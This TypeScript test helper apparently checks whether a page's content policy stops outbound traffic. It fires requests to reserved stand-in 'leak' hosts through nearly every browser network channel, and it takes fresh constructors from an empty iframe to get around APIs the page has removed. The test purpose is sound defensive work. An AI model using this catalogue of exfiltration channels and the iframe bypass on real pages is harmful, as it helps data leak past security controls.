/**
 * Hosts that the page is made to try to reach, by address (RFC 5737, RFC 3849) and by name (RFC 2606);
 * others once the content policy is taken away, so that nothing is answered from what was tried before.
 */
export const leakHosts = {
  inPolicy: ['198.51.100.7:80', '[2001:db8:1::7]:80', 'leak.example:80'],
  bypassed: ['198.51.100.8:80', '[2001:db8:1::8]:80', 'bypassed.example:80'],
} as const;

/**
 * Runs in a page and names nothing outside itself: tries every way to a network that a page has, to
 * each host, and waits until each had its time; the ways that leave the page come last. What is
 * refused by throwing is as good as what is refused in silence. Answers how many were tried.
 */
export async function leakInPage({ hosts }: { hosts: readonly string[] }): Promise<number> {
  let tried = 0;
  function attempt(ways: readonly (() => unknown)[]): void {
    for (const way of ways) {
      tried += 1;
      try {
        void Promise.resolve(way()).catch(() => undefined);
      } catch {
        // Refused on the spot.
      }
    }
  }
  const frame = document.createElement('iframe');
  document.body.append(frame);
  // An empty frame hands out fresh constructors of what the page took away from itself.
  const fresh = (frame.contentWindow ?? window) as typeof window & typeof globalThis;
  function element(tag: string, properties: Record<string, string>): void {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(properties)) made.setAttribute(name, value);
    document.body.append(made);
  }
  function link(rel: string, href: string): void {
    element('link', { rel, href });
  }
  function submit(http: string): void {
    const form = document.createElement('form');
    Object.assign(form, { action: `${http}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  }
  function ping(http: string): void {
    const anchor = document.createElement('a');
    Object.assign(anchor, { href: '#ping', ping: `${http}/ping` });
    document.body.append(anchor);
    anchor.click();
  }
  function callPeer(host: string, candidate: boolean): unknown {
    const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel('leak');
    return peer.createOffer().then(async (offer) => {
      await peer.setLocalDescription(offer);
      if (!candidate) return;
      const other = new fresh.RTCPeerConnection();
      await other.setRemoteDescription(offer);
      const answer = await other.createAnswer();
      await other.setLocalDescription(answer);
      await peer.setRemoteDescription(answer);
      const [, address = '', port = '80'] = /^\[?(.*?)\]?:(\d+)$/.exec(host) ?? [];
      const line = `candidate:1 1 udp 2113937151 ${address} ${port} typ host`;
      await peer.addIceCandidate({ candidate: line, sdpMid: '0', sdpMLineIndex: 0 });
    });
  }
  function staying(host: string): (() => unknown)[] {
    const http = `http://${host}`;
    return [
      () => fetch(`${http}/fetch`, { mode: 'no-cors' }),
      () => fresh.fetch(`${http}/frame-fetch`, { mode: 'no-cors', keepalive: true }),
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${http}/xhr`);
        request.send();
      },
      () => navigator.sendBeacon(`${http}/beacon`, 'x'),
      () => new fresh.WebSocket(`ws://${host}/socket`),
      () => new fresh.EventSource(`${http}/events`),
      () => new fresh.WebTransport(`https://${host}/transport`),
      () => callPeer(host, false),
      () => callPeer(host, true),
      () => new Worker(`${http}/worker.js`),
      () => new SharedWorker(`${http}/shared.js`),
      () => navigator.serviceWorker.register(`${http}/service.js`),
      () => import(/* @vite-ignore */ `${http}/module.js`),
      () => new FontFace('leak', `url(${http}/font)`).load(),
      () => element('img', { src: `${http}/img`, srcset: `${http}/img2 2x` }),
      () => element('script', { src: `${http}/script.js` }),
      () => element('iframe', { src: `${http}/frame` }),
      () => element('object', { data: `${http}/object` }),
      () => element('embed', { src: `${http}/embed` }),
      () => element('video', { src: `${http}/video`, poster: `${http}/poster`, preload: 'auto' }),
      () => element('audio', { src: `${http}/audio`, preload: 'auto' }),
      () => element('input', { type: 'image', src: `${http}/input` }),
      () => element('track', { src: `${http}/track` }),
      () => element('div', { style: `background: url(${http}/css)` }),
      () => link('stylesheet', `${http}/style.css`),
      () => link('prefetch', `${http}/prefetch`),
      () => link('prerender', `${http}/prerender`),
      () => link('preload', `${http}/preload`),
      () => link('modulepreload', `${http}/modulepreload`),
      () => link('preconnect', http),
      () => link('dns-prefetch', `//${host}`),
      () => link('icon', `${http}/icon`),
      () => link('manifest', `${http}/manifest`),
      () => ping(http),
    ];
  }
  function leaving(host: string): (() => unknown)[] {
    const http = `http://${host}`;
    return [
      () => element('meta', { 'http-equiv': 'refresh', content: `0; url=${http}/refresh` }),
      () => submit(http),
      () => window.open(`${http}/window`),
      () => location.assign(`${http}/location`),
    ];
  }
  for (const host of hosts) attempt(staying(host));
  await new Promise((done) => setTimeout(done, 2500));
  for (const host of hosts) {
    attempt(leaving(host));
    await new Promise((done) => setTimeout(done, 500));
  }
  return tried;
}
